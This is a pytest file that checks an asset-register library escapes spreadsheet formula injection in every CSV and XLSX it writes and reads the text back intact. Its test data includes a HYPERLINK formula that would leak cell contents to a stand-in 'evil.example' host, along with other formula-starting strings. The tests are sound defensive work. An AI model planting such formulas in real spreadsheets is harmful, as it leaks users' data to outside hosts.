"""Spreadsheets: no cell that assetmap writes (CSV or XLSX) is a formula, and what it wrote
reads back to the original text.

A register full of text a spreadsheet would run goes through every CSV and XLSX writer, for
both audiences and the analyst; each file is then read as a spreadsheet program reads it.
"""

from __future__ import annotations

import csv
import re
import warnings
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest

from assetmap import (
    build_report,
    datasets,
    find_links,
    geocode,
    publish,
    read_assets,
    save_assets,
    save_links,
    save_report,
)
from assetmap._tabular import (
    csv_text,
    from_csv_cells,
    from_csv_text,
    from_xlsx_text,
    to_csv_cells,
    write_csv,
    xlsx_text,
)
from assetmap.errors import GeocodingWarning
from assetmap.schema import validate_assets
from tests.contracts import assert_same_rows

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE = [EVIL, "+44 7700 900123", "-x", "@SUM(1)", "\tTAB", "\rCR", "'=already"]
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][+-]?\d+)?")  # what a spreadsheet reads as a number


def _hostile_register() -> gpd.GeoDataFrame:
    """The sample register with hostile text in names, descriptions, tags, an id and an extra
    column, and a column of negative numbers."""
    frame = datasets.sample_register().reset_index()
    public = frame.index[frame["privacy"].eq("public")].tolist()
    for row, text in zip(public, HOSTILE, strict=False):
        frame.loc[row, ["name", "description"]] = text
    frame.loc[public[len(HOSTILE)], "asset_id"] = "@id"
    frame["comment"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(frame))]
    frame["balance"] = -np.arange(len(frame)) - 0.5
    # tags a micro offers and a macro needs, so that they are matched in the links too
    frame["offers"] = frame["offers"].map(lambda tags: [*tags, "=evil()", "@sum(1)", "+44 77"])
    frame["needs"] = frame["needs"].map(lambda tags: [*tags, "=evil()", "@sum(1)"])
    return validate_assets(frame)


@pytest.fixture(scope="module")
def hostile() -> gpd.GeoDataFrame:
    return _hostile_register()


@pytest.fixture(scope="module")
def placed(hostile: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", GeocodingWarning)
        return geocode(hostile)


@pytest.fixture(scope="module")
def written(placed: gpd.GeoDataFrame, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Every CSV and XLSX that save_assets, save_links and save_report write."""
    folder = tmp_path_factory.mktemp("spreadsheets")
    links = find_links(placed, between=("micro", "macro"))
    files = []
    for suffix in (".csv", ".xlsx"):
        files.append(save_assets(placed, folder / f"assets-analyst{suffix}"))
        files.append(save_links(links, folder / f"links-analyst{suffix}", analyst=True))
        for audience in ("public", "partners"):
            shown = publish(placed, links=links, audience=audience)
            files.append(save_assets(shown, folder / f"assets-{audience}{suffix}"))
            files.append(save_links(shown, folder / f"links-{audience}{suffix}"))
    for audience in ("public", "partners"):
        report = build_report(placed, links, audience=audience, charts=False)
        report_files = save_report(report, folder / f"report-{audience}")
        files += [p for p in report_files if p.suffix in (".csv", ".xlsx")]
    return files


def _csv_fields(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [field for row in csv.reader(f) for field in row]


def _xlsx_cells(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_every_writer_was_given_the_hostile_text(written: list[Path]) -> None:
    names = {p.name for p in written}
    assert {"assets-public.xlsx", "links-partners.csv", "report.xlsx", "macro_links.csv"} <= names
    report_tables = [p for p in written if p.parent.name == "tables"]
    assert len(report_tables) >= 10
    assert any(f.startswith("'=") for p in report_tables for f in _csv_fields(p))
    for path in written:
        if path.name.startswith(("assets", "links")):
            if path.suffix == ".csv":
                assert any(f.startswith("'=") for f in _csv_fields(path)), path.name
            else:
                texts = [c.value for c in _xlsx_cells(path) if isinstance(c.value, str)]
                assert any(t.startswith("=") for t in texts), path.name
    analyst = next(p for p in written if p.name == "assets-analyst.csv")
    assert "'" + EVIL in _csv_fields(analyst)


def test_no_csv_cell_starts_a_formula(written: list[Path]) -> None:
    for path in (p for p in written if p.suffix == ".csv"):
        for field in _csv_fields(path):
            assert not field.startswith(STARTS) or NUMBER.fullmatch(field), (path, field)


def test_no_xlsx_cell_is_a_formula(written: list[Path]) -> None:
    for path in (p for p in written if p.suffix == ".xlsx"):
        cells = _xlsx_cells(path)
        assert cells
        for cell in cells:
            assert cell.data_type not in ("f", "e"), (path, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s"


def test_negative_numbers_stay_numbers(written: list[Path]) -> None:
    path = next(p for p in written if p.name == "assets-analyst.csv")
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [row["balance"] for row in rows[:2]] == ["-0.5", "-1.5"]
    book = openpyxl.load_workbook(path.with_suffix(".xlsx"))
    sheet = book["assets"]
    column = [c.value for c in sheet[1]].index("balance") + 1
    assert sheet.cell(2, column).value == -0.5
    assert sheet.cell(2, column).data_type == "n"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_read_assets_gives_back_the_original_text(
    hostile: gpd.GeoDataFrame, tmp_path: Path, suffix: str
) -> None:
    back = read_assets(save_assets(hostile, tmp_path / f"register{suffix}"))
    assert_same_rows(hostile, back)
    assert back["comment"].tolist()[: len(HOSTILE)] == HOSTILE
    assert "@id" in back.index
    assert pd.api.types.is_number(back["balance"].iloc[0])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_read_assets_gives_back_the_text_of_a_published_register(
    placed: gpd.GeoDataFrame, written: list[Path], suffix: str
) -> None:
    path = next(p for p in written if p.name == f"assets-analyst{suffix}")
    back = read_assets(path)
    for column in ("name", "description", "offers", "needs", "comment"):
        assert back[column].tolist() == placed[column].tolist(), column


TEXTS = [
    *HOSTILE,
    "''=twice",
    "'-",
    "'plain",
    "''",
    "'",
    "",
    "a=b",
    "-",
    "x\ry",
    "line\r\nbreak",
    "_x000D_",
    "_x005F_",
    "\x01bell",
]


@pytest.mark.parametrize("text", TEXTS)
def test_each_text_reads_back_exactly(text: str) -> None:
    assert from_csv_text(csv_text(text)) == text
    assert from_xlsx_text(xlsx_text(text)) == text
    assert not csv_text(text).startswith(STARTS)


def test_only_text_that_could_start_a_formula_is_quoted() -> None:
    assert csv_text("=1") == "'=1"
    assert csv_text("'=1") == "''=1"
    assert csv_text("'plain") == "'plain"  # nothing to undo on reading: left as it is
    assert from_csv_text("'plain") == "'plain"
    frame = pd.DataFrame(
        {"=heading": ["-5", "text"], "n": [-5, 3], "mixed": [-1.5, "@x"], "flag": [True, False]}
    )
    cells = to_csv_cells(frame)
    assert cells.columns.tolist() == ["'=heading", "n", "mixed", "flag"]
    assert cells["'=heading"].tolist() == ["'-5", "text"]
    assert cells["n"].tolist() == [-5, 3] and cells["n"].dtype == frame["n"].dtype
    assert cells["mixed"].tolist() == [-1.5, "'@x"]
    assert cells["flag"].tolist() == [True, False]
    pd.testing.assert_frame_equal(from_csv_cells(cells), frame, check_dtype=False)


def test_a_carriage_return_in_a_csv_cell_stays_in_its_cell(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(pd.DataFrame({"a": ["x\ry", "\rz", "p\nq"], "b": [1, 2, 3]}), path)
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows == [["a", "b"], ["x\ry", "1"], ["'\rz", "2"], ["p\nq", "3"]]
    assert path.read_bytes().count(b"\n") == 5  # four row ends, one inside a cell
